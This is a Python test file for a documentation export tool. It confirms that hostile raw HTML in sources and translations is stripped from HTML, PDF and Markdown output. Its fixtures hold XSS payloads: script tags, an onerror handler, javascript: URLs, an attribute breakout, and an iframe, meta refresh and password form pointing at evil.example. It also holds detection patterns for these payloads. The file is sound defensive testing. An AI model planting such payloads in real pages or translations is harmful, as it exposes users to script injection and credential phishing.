"""Hostile raw HTML stays harmless in every output: HTML page, PDF and translated Markdown (#24).

In sources (an author pasting a widget) and in msgstrs (a translation nobody reviewed):
scripts, event handlers, javascript: and data: URLs, frames, objects, SVG with script,
meta refresh, and styles that hide or overlay content.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

import pikepdf
import polib

from ..conftest import run_cli
from .test_untrusted import HOSTILE

HOSTILE_SOURCE = """
<script>document.title='pwned'</script>

<img src="x.png" onerror="document.title='pwned'" alt="Et billede">

<a href="javascript:document.title='pwned'">Klik her</a> og <a href="data:text/html,pwned">her</a>.

<iframe src="https://evil.example/"></iframe>

<object data="evil.swf"></object>

<svg><script>document.title='pwned'</script><text>SVGTEKST</text></svg>

<meta http-equiv="refresh" content="0; url=https://evil.example/">

<style>body { display: none }</style>

<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">Overlejret</div>

<p class="sr-only visually-hidden" hidden>Skjult tekst</p>

<form action="https://evil.example/"><input type="password" name="pw"><button>Send</button></form>
"""

# The msgstrs the earlier hostile-input tests use, and an attribute breaking out of its quotes.
HOSTILE_MSGSTRS = {**HOSTILE, "Et billede": "An image\" onload=\"document.title='pwned'"}


def hostile_project(project: Callable[[str], Path]) -> Path:
    root = project("minimal")
    source = root / "source/da/vektorer.md"
    source.write_text(source.read_text() + HOSTILE_SOURCE)
    assert run_cli("extract").exit_code == 0
    po = polib.pofile(str(root / "locales/en/LC_MESSAGES/vektorer.po"))
    for entry in po:
        entry.msgstr = HOSTILE_MSGSTRS.get(entry.msgid, entry.msgid)
    po.save()
    return root


def assert_harmless_html(html: str) -> None:
    body = html.split("<main", 1)[1].split("</main>")[0]
    assert "<script" not in body
    assert not re.search(r"\son\w+\s*=", body)
    assert not re.search(r"""(href|src)\s*=\s*["']?\s*(javascript|data|vbscript):""", body, re.I)
    for tag in (
        "<iframe",
        "<object",
        "<embed",
        "<svg",
        "<meta",
        "<style",
        "<form",
        '<input type="password',
    ):
        assert tag not in body, tag
    assert "style=" not in body
    assert "sr-only" not in body
    assert "SVGTEKST" not in body


def test_hostile_html_in_sources_and_msgstrs_is_harmless_in_html(
    project: Callable[[str], Path],
) -> None:
    root = hostile_project(project)
    run_cli("export", "--format", "html")
    for lang in ("da", "en"):
        html = (root / f"build/html/{lang}/vektorer.html").read_text()
        assert_harmless_html(html)
    danish = (root / "build/html/da/vektorer.html").read_text()
    assert "Overlejret" in danish  # the text stays, the overlay goes
    assert '<img src="x.png" alt="Et billede">' not in danish  # missing file: refused
    assert "Klik her" in danish


def test_hostile_html_is_harmless_in_pdf(project: Callable[[str], Path]) -> None:
    root = hostile_project(project)
    run_cli("export", "--format", "pdf")
    for lang in ("da", "en"):
        with pikepdf.open(root / f"build/pdf/{lang}/vektorer.pdf") as pdf:
            assert "/JavaScript" not in repr(pdf.Root)
            assert "/OpenAction" not in pdf.Root
            for page in pdf.pages:
                for annotation in page.get("/Annots", []):
                    action = annotation.get("/A")
                    uri = str(action.get("/URI", "")) if action is not None else ""
                    assert not uri.lower().startswith(("javascript:", "data:")), uri
                    assert "/JS" not in (action or {})


def test_hostile_msgstrs_never_reach_translated_markdown(project: Callable[[str], Path]) -> None:
    root = hostile_project(project)
    result = run_cli("export", "--format", "markdown")
    assert result.exit_code == 1  # each refused unit is an error, at its msgstr line
    written = (root / "build/markdown/en/vektorer.md").read_text()
    assert (
        "pwned"
        not in written.replace(HOSTILE_SOURCE.split("\n", 2)[1], "").split('<img src="x.png"')[0]
    )
    assert "<script>document.title='pwned'</script>" not in written.split("\n\n<script>")[0]
    assert "javascript:document.title" not in written.split("<a href=")[0]
    errors = [line for line in result.stderr.splitlines() if ": error: " in line]
    assert len(errors) == 5, result.stderr
    assert all(line.startswith("locales/en/LC_MESSAGES/vektorer.po:") for line in errors)
    assert any("unbalanced (</title> closes nothing)" in line for line in errors), errors
    assert any("adds HTML its source does not have: <img>" in line for line in errors)
    assert any("adds a 'javascript' URL" in line for line in errors)
    # The author's own Markdown is theirs: the source's raw HTML is kept byte for byte.
    assert HOSTILE_SOURCE.strip() in (root / "build/markdown/da/vektorer.md").read_text()
